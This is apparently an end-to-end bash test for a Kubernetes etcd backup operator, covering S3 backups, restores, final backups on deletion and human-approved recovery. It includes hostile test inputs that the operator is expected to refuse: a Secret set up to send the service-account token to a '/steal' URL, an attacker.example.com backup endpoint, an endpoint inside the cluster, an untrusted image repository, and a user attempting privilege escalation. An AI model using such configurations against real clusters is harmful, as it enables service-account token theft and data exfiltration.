#!/usr/bin/env bash
# A one-shot backup to a real S3 server (moto), then an EtcdRestore of type New: the restored
# cluster (its members restored by member-init with the operator image's etcdutl, 3.5.1, from a
# 3.4.23 snapshot) holds every write acknowledged before the backup. Then demo is deleted: the
# deletion waits while its final backup cannot be stored, and once it is, that backup restores.
# Last, every member of demo-restored loses its data, and it is recovered from its newest
# verified backup once a person approves, on the claims it had.
source "$(dirname "$0")/lib.sh"
MOTO=${MOTO_SERVER:-$ROOT/.venv/bin/moto_server}
"$MOTO" -H 0.0.0.0 -p 5000 >"$WORK/moto.log" 2>&1 &
S3=http://10.244.0.1:5000
wait_for "the S3 server" 30 curl -sf "$S3/"
curl -sf -X PUT "$S3/etcd-backups" >/dev/null
install_operator
create_cluster demo 3 3.4.23 >/dev/null
wait_running demo 3
writer_start demo
sleep 5
writer_check demo

kubectl apply -f - >/dev/null <<YAML
apiVersion: v1
kind: Secret
metadata:
  name: backup-credentials
stringData:
  AWS_ACCESS_KEY_ID: test
  AWS_SECRET_ACCESS_KEY: test
YAML
# backup_yaml NAME CLUSTER ENDPOINT SECRET: a one-shot EtcdBackup of CLUSTER to an S3 endpoint,
# with SECRET's credentials.
backup_yaml() {
  cat <<YAML
apiVersion: etcd.etcd.io/v1alpha1
kind: EtcdBackup
metadata:
  name: $1
spec:
  clusterRef:
    name: $2
  destination:
    s3:
      bucket: etcd-backups
      prefix: demo/
      region: us-east-1
      endpoint: $3
      forcePathStyle: true
  credentialsSecretRef:
    name: $4
YAML
}
# s3_backup NAME CLUSTER: a one-shot EtcdBackup of CLUSTER to the S3 server.
s3_backup() { backup_yaml "$1" "$2" "$S3" backup-credentials | kubectl apply -f - >/dev/null; }

# A tenant's EtcdBackup cannot point the operator inside the cluster (here at the API server, by
# name) nor have it send its own service-account token somewhere: both are refused, saying why.
# outside_backup NAME SECRET [ENDPOINT]: an EtcdBackup of demo with SECRET's credentials, to an
# endpoint outside the cluster unless one is given.
outside_backup() { backup_yaml "$1" demo "${3:-https://attacker.example.com}" "$2"; }
{
  cat <<YAML
apiVersion: v1
kind: Secret
metadata:
  name: token-thief
stringData:
  AWS_CONTAINER_CREDENTIALS_FULL_URI: $S3/steal
  AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE: /var/run/secrets/kubernetes.io/serviceaccount/token
YAML
  echo ---
  outside_backup steal-token token-thief
  echo ---
  outside_backup to-apiserver backup-credentials https://kubernetes.default.svc
} | kubectl apply -f - >/dev/null
ready_message() { kubectl get etcdbackup "$1" -o jsonpath='{.status.conditions[?(@.type=="Ready")].message}'; }
token_refused() { ready_message steal-token | grep -q 'AWS_CONTAINER_CREDENTIALS_FULL_URI are not credentials the operator takes'; }
apiserver_refused() { ready_message to-apiserver | grep -q 'kubernetes.default.svc is .*--backup-endpoint-allow'; }
wait_for "a Secret naming a credentials URL and a token file refused" 60 token_refused
wait_for "an endpoint inside the cluster refused" 120 apiserver_refused
log "refused: $(ready_message to-apiserver)"
if grep -q steal "$WORK/moto.log"; then fail "the token thief's URL was called: $(grep steal "$WORK/moto.log")"; fi
kubectl delete etcdbackup steal-token to-apiserver >/dev/null
# Someone who may create EtcdBackups but not read Secrets cannot have the operator use one.
kubectl apply -f - >/dev/null <<YAML
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: backup-author
rules:
  - apiGroups: ["etcd.etcd.io"]
    resources: ["etcdbackups", "etcdrestores"]
    verbs: ["create"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: backup-author
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: Role
  name: backup-author
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: User
    name: mallory
YAML
if out=$(outside_backup borrowed-credentials backup-credentials | kubectl --as=mallory create -f - 2>&1); then
  fail "mallory named a Secret she cannot read: $out"
fi
echo "$out" | grep -q "spec.credentialsSecretRef: mallory may not read Secret backup-credentials" \
  || fail "the denial does not say why: $out"
log "refused: $out"
# Nor have it delete a cluster she may not delete, by asking for a Replace.
if out=$(kubectl --as=mallory create -f - 2>&1 <<YAML
apiVersion: etcd.etcd.io/v1alpha1
kind: EtcdRestore
metadata:
  name: undo-demo
spec:
  clusterName: demo
  type: Replace
  source:
    backupRef:
      name: demo-now
YAML
); then
  fail "mallory had demo replaced: $out"
fi
echo "$out" | grep -q "spec.type: mallory may not delete EtcdCluster demo" \
  || fail "the denial does not say why: $out"
log "refused: $out"

# Members run only the image repositories the administrator allows.
if out=$(kubectl create -f - 2>&1 <<YAML
apiVersion: etcd.etcd.io/v1alpha1
kind: EtcdCluster
metadata:
  name: elsewhere
spec:
  size: 1
  version: 3.5.36
  repository: evil.example/etcd
YAML
); then
  fail "a cluster from an unlisted repository was admitted: $out"
fi
echo "$out" | grep -q "spec.repository: evil.example/etcd is not an image repository" \
  || fail "the denial does not say why: $out"
log "refused: $out"

# The test's S3 server is on the node network: the administrator allows it.
set_operator_env BACKUP_ENDPOINT_ALLOW 10.244.0.1

s3_backup demo-now demo
wait_for "the backup succeeded" 120 bash -c '[ "$(kubectl get etcdbackup demo-now -o jsonpath="{.status.phase}")" = Succeeded ]'
# The operator read it back from S3 and restored it in its scratch space before it counted.
[ -n "$(kubectl get etcdbackup demo-now -o jsonpath='{.status.backups[0].verifiedTime}')" ] \
  || fail "the backup was not verified: $(kubectl get etcdbackup demo-now -o jsonpath='{.status}')"

# A backup whose prefix reaches into demo-now's directory would keep its objects among those.
if out=$(backup_yaml nested demo "$S3" backup-credentials | sed 's|prefix: demo/|prefix: demo/default/demo-now|' |
  kubectl create -f - 2>&1); then
  fail "a backup inside another's directory was admitted: $out"
fi
echo "$out" | grep -q "spec.destination: this backup's objects would lie among those of EtcdBackup default/demo-now" \
  || fail "the denial does not say why: $out"
log "refused: $out"

# A volume destination where nothing is mounted: the operator's root filesystem is read-only.
kubectl apply -f - >/dev/null <<YAML
apiVersion: etcd.etcd.io/v1alpha1
kind: EtcdBackup
metadata:
  name: demo-to-volume
spec:
  clusterRef:
    name: demo
  destination:
    volume:
      path: /var/backups
YAML
refused() {
  kubectl get etcdbackup demo-to-volume -o jsonpath='{.status.conditions[?(@.type=="Ready")].message}' | grep -q 'mount a volume there'
}
wait_for "a volume destination without a volume refused, saying what to mount" 60 refused

# `kubectl etcd status`: the cluster, its members and its backups on one screen.
screen=$(kubectl etcd status demo) || fail "kubectl etcd status failed: $screen"
# Each member's backend and raft log, as the operator recorded them in status (the CRD's schema
# keeps the fields: the API server prunes what it does not declare).
for line in 'EtcdCluster default/demo: Running, 3/3 ready' 'demo-0' 'demo-now' 'demo-to-volume' '[0-9] [KMGi]*B/[0-9.]* [KMGi]*B'; do
  grep -q "$line" <<<"$screen" || fail "kubectl etcd status lacks '$line':\n$screen"
done
log "kubectl etcd status:"$'\n'"$screen"
# `kubectl etcd backup`: demo has two EtcdBackups, so it asks which destination; then one now.
if out=$(kubectl etcd backup demo 2>&1); then fail "kubectl etcd backup chose between two EtcdBackups: $out"; fi
grep -q -- '--like' <<<"$out" || fail "kubectl etcd backup did not say how to choose: $out"
out=$(kubectl etcd backup demo --like demo-now --timeout 180) || fail "kubectl etcd backup failed: $out"
grep -q 'verified by a restore' <<<"$out" || fail "kubectl etcd backup did not report a verified backup: $out"
log "kubectl etcd backup: $(tail -1 <<<"$out")"

# restore_new NAME SIZE: an EtcdRestore of type New from demo-now's newest backup.
restore_new() {
  kubectl apply -f - >/dev/null <<YAML
apiVersion: etcd.etcd.io/v1alpha1
kind: EtcdRestore
metadata:
  name: $1
spec:
  clusterName: $1
  type: New
  source:
    backupRef:
      name: demo-now
  clusterSpec:
    size: $2
    version: "3.4.23"
YAML
}
restore_new demo-restored 3
wait_running demo-restored 3 300
wait_for "the restore Succeeded" 60 bash -c '[ "$(kubectl get etcdrestore demo-restored -o jsonpath="{.status.phase}")" = Succeeded ]'
writer_check demo-restored

# Deleting demo takes one last backup first. Without the backup's credentials it cannot: the
# deletion waits, its pods still run, and the cluster says why and how to go on without it.
writer_start demo
sleep 3
writer_check demo
kubectl get secret backup-credentials -o yaml >"$WORK/credentials.yaml"
kubectl delete secret backup-credentials >/dev/null
kubectl delete etcdcluster demo --wait=false >/dev/null
final_backup() { field demo '{.status.conditions[?(@.type=="FinalBackup")]}'; }
held() { final_backup | grep -q '"FinalBackupFailed"' && final_backup | grep -q 'skip-final-backup='; }
wait_for "the deletion held, saying why and how to skip the final backup" 90 held
sleep 5
kubectl get etcdcluster demo >/dev/null 2>&1 || fail "demo was deleted without its final backup"
[ "$(kubectl get pods -l app.kubernetes.io/instance=demo --no-headers | wc -l)" = 3 ] \
  || fail "demo's pods went before its final backup: $(kubectl get pods)"
# The credentials back: the next try stores the backup, then the cluster goes.
grep -v -e resourceVersion -e uid: -e creationTimestamp "$WORK/credentials.yaml" | kubectl apply -f - >/dev/null
gone() { ! kubectl get etcdcluster demo >/dev/null 2>&1; }
wait_for "demo deleted once its final backup was stored" 120 gone
final=$(kubectl get etcdbackup demo-now -o jsonpath='{.status.backups[0].location}')
case $final in *"/demo-final-"*) ;; *) fail "the newest backup of demo-now is $final, not a final backup" ;; esac
log "final backup: $final"
# It restores with every write acknowledged before the deletion.
out=$(kubectl etcd restore demo-final --from demo-now --size 1 --version 3.4.23 --timeout 300) ||
  fail "kubectl etcd restore failed: $out"
grep -q 'type New of EtcdCluster demo-final' <<<"$out" || fail "kubectl etcd restore did not say what it created: $out"
wait_running demo-final 1 60
writer_check demo-final

# No member of demo-restored survives: every claim loses its data. The cluster is Failed naming
# its newest verified backup, waits for a person, and is then restored from that backup by an
# EtcdRestore of type Replace: a new cluster ID, every write acknowledged before the backup.
writer_start demo-restored
sleep 3
writer_check demo-restored
s3_backup demo-restored-now demo-restored
verified() { [ -n "$(kubectl get etcdbackup demo-restored-now -o jsonpath='{.status.backups[0].verifiedTime}')" ]; }
wait_for "the backup of demo-restored verified" 120 verified
old_id=$(field demo-restored '{.status.clusterID}')
claim_uids() { kubectl get pvc data-demo-restored-0 data-demo-restored-1 data-demo-restored-2 -o jsonpath='{.items[*].metadata.uid}'; }
old_claims=$(claim_uids)
if out=$(kubectl etcd approve-recovery demo-restored --yes 2>&1); then fail "an approval of a healthy cluster was set: $out"; fi
grep -q 'nothing to approve' <<<"$out" || fail "kubectl etcd approve-recovery did not say why it refused: $out"
kubectl patch etcdcluster demo-restored --type merge -p '{"spec":{"recovery":{"quorumLossAfterSeconds":20}}}' >/dev/null
# The disks are lost with their pods (local volumes): each recreated pod finds an empty volume.
for i in 0 1 2; do
  fault wipe "claim=default/data-demo-restored-$i"
  fault kill "pod=default/demo-restored-$i" "container=etcd" 2>/dev/null || true
done
kubectl delete pod demo-restored-0 demo-restored-1 demo-restored-2 --wait=false >/dev/null
log "wiped the data of every member of demo-restored and deleted their pods"
lost() { field demo-restored '{.status.conditions[?(@.type=="QuorumLost")].message}'; }
no_survivor() { [ "$(field demo-restored '{.status.phase}')" = Failed ] && lost | grep -q 'EtcdBackup demo-restored-now' && lost | grep -q 'approve-recovery='; }
wait_for "no survivor reported, naming the newest verified backup" 180 no_survivor
log "$(lost)"
token=$(lost | sed -n 's/.*approve-recovery=\([0-9a-f]*-[0-9]*\).*/\1/p')
[ -n "$token" ] || fail "no approval token in the condition"
sleep 10
[ -z "$(kubectl get etcdrestore -o name | grep recovery)" ] || fail "a restore began without approval"
out=$(kubectl etcd approve-recovery demo-restored --yes) || fail "kubectl etcd approve-recovery failed: $out"
grep -q 'EtcdBackup demo-restored-now' <<<"$out" || fail "kubectl etcd approve-recovery did not show the plan: $out"
[ "$(field demo-restored '{.metadata.annotations.etcd\.etcd\.io/approve-recovery}')" = "$token" ] ||
  fail "kubectl etcd approve-recovery set another token than the condition's $token"
made() { kubectl get etcdrestore -o name | grep -q "demo-restored-recovery-"; }
wait_for "the EtcdRestore made for the recovery" 60 made
restored_again() { [ "$(field demo-restored '{.status.phase}')" = Running ] && [ "$(field demo-restored '{.status.clusterID}')" != "$old_id" ] && [ -n "$(field demo-restored '{.status.clusterID}')" ]; }
wait_for "demo-restored running again from its backup, as a new cluster" 300 restored_again
wait_running demo-restored 3 120
# The Replace kept the claims (a restore that failed would have left the old data in place).
[ "$(claim_uids)" = "$old_claims" ] || fail "the Replace did not keep the claims: $old_claims → $(claim_uids)"
writer_check demo-restored

# `kubectl etcd skip-final-backup`: the deletion goes on without a final backup, as asked.
out=$(kubectl etcd skip-final-backup demo-restored --reason "e2e: the data is not wanted") ||
  fail "kubectl etcd skip-final-backup failed: $out"
grep -q "skip-final-backup='e2e: the data is not wanted'" <<<"$out" || fail "kubectl etcd skip-final-backup did not say what it did: $out"
kubectl delete etcdcluster demo-restored --wait=false >/dev/null
restored_gone() { ! kubectl get etcdcluster demo-restored >/dev/null 2>&1; }
wait_for "demo-restored deleted without a final backup" 120 restored_gone
case $(kubectl get etcdbackup demo-restored-now -o jsonpath='{.status.backups[*].location}') in
  *"/demo-restored-final-"*) fail "a final backup of demo-restored was stored although skipped" ;;
esac

# `kubectl delete namespace` of a tenant with a cluster, its EtcdBackup and the backup's
# credentials: the namespace controller deletes them all at once, pods included. The deletion
# finishes (a final backup is taken while the members still answer, else the cluster goes
# without one: waiting could not bring them back), and every call the operator makes into the
# terminating namespace is allowed.
kubectl create namespace tenant >/dev/null
kubectl config set-context --current --namespace=tenant >/dev/null
grep -v -e resourceVersion -e uid: -e creationTimestamp -e 'namespace:' "$WORK/credentials.yaml" | kubectl apply -f - >/dev/null
create_cluster app 3 3.5.36 >/dev/null
wait_running app 3
s3_backup app-now app
wait_for "the tenant's backup succeeded" 120 bash -c '[ "$(kubectl get etcdbackup app-now -o jsonpath="{.status.phase}")" = Succeeded ]'
start=$SECONDS
kubectl delete namespace tenant --wait=false >/dev/null
kubectl config set-context --current --namespace=default >/dev/null
wait_for "namespace tenant deleted" 240 bash -c '! kubectl get namespace tenant'
finals=$(curl -sf "$S3/etcd-backups?list-type=2&prefix=demo/tenant/app-now/app-final" | { grep -o '<Key>[^<]*</Key>' || true; } | sed 's/<[^>]*>//g' | tr '\n' ' ')
log "namespace tenant deleted in $((SECONDS - start))s; final backup: ${finals:-none}"
log "PASS"
